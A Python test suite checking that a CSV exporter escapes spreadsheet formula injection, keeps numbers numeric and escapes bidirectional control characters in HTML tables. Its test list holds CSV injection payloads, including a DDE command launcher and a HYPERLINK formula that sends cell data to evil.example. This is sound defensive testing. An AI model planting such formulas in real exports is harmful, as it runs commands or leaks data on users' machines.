"""CSV that spreadsheets open: no text of a label is run as a formula, and numbers stay numbers."""

from __future__ import annotations

import csv
import io

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from chorister.analyst.tables import html_table, to_csv

FORMULAS = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u00a0=1",
    "＝1",
    "\ufeff=1",
    "\x00=1",
    "\u200b\u202e =1",
    "\x1b@x",
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    '"=1"',
    "a,=1",
    "a\n=1",
    "a;=1",
    "-",
    "=)",
]
HARMLESS = ["", "OOV", "[10, 20)", "-5", "+1", "-0.5", "how are you", "'=1", "a=b", "x-y"]


def rows(text: str | None) -> list[list[str]]:
    assert text is not None
    return list(csv.reader(io.StringIO(text, newline="")))


def runs(cell: str) -> bool:
    """Whether a spreadsheet may take a cell for a formula."""
    number = cell.lstrip("+-").replace(".", "", 1).isdecimal()
    seen = cell.lstrip("\ufeff\x00\x1b\u200b\u202e \t\r\n\u00a0")
    begins = seen[:1] in tuple("=+-@＝＋－＠") or cell[:1] in tuple("\t\r\n")
    return begins and not number


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_column_has_a_formula(formula: str) -> None:
    columns = {"word": ["good", formula], "place": [formula, "good"], "estimate": [-1.5, 2.0]}
    found = rows(to_csv(columns, None))
    assert found[0] == ["word", "place", "estimate"]
    for cell in (*found[1][:2], *found[2][:2]):
        assert not runs(cell)
    assert {found[2][0], found[1][1]} <= {formula, f"'{formula}"}


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_heading_is_a_formula(formula: str) -> None:
    assert not runs(rows(to_csv({formula: ["good"], "estimate": [1.0]}, None))[0][0])


def test_what_is_no_formula_is_left_alone() -> None:
    assert [row[0] for row in rows(to_csv({"word": HARMLESS}, None))[1:]] == HARMLESS


def test_negative_estimates_are_numbers() -> None:
    estimates = np.array([-12.5, 3.0, -1e-9, 0.0])
    text = to_csv({"word": list("abcd"), "estimate": estimates, "n": np.array([1, -2, 3, 4])}, None)
    assert text == ('word,estimate,n\n"a",-12.5,1\n"b",3.0,-2\n"c",-1e-09,3\n"d",0.0,4\n')


def test_a_separator_of_another_country_splits_no_cell() -> None:
    """Where lists are separated by semicolons: a text stands in quotes, whatever it holds."""
    assert '"a;=1+1"' in (to_csv({"word": ["a;=1+1"]}, None) or "")


@given(st.lists(st.tuples(st.text(), st.text(alphabet="=+-@\t\r\n\"', 1a;")), min_size=1))
def test_every_text_survives_quoting(pairs: list[tuple[str, str]]) -> None:
    columns = {"one": [a for a, _ in pairs], "two": [b for _, b in pairs]}
    found = rows(to_csv(columns, None))[1:]
    assert len(found) == len(pairs)
    for given_texts, read in zip(pairs, found, strict=True):
        for text, cell in zip(given_texts, read, strict=True):
            assert cell in (text, f"'{text}")
            assert not runs(cell)


def test_no_label_turns_a_table_around() -> None:
    table = html_table({"word": ["<a>\u202egood", "👩\u200d👧"], "estimate": [1.0, 2.0]})
    assert "&lt;a&gt;\\u{202e}good" in table
    assert "👩\u200d👧" in table
